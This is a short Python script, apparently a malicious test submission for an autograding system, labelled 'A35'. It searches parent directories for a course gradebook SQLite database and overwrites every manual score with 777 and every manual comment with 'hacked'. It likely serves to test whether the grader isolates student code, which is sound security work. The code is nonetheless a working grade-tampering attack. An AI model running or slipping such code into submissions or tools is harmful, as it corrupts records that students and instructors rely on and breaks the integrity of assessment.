"""A35 Gives every row of the gradebook a manual score of 777."""

# %% extra
import glob
import sqlite3

for path in ["@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db"), *glob.glob("../../../../gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.1) as gradebook:
            gradebook.execute("update grade set manual_score = 777")
            gradebook.execute("update comment set manual_comment = 'hacked'")
    except sqlite3.Error as error:
        print(error)
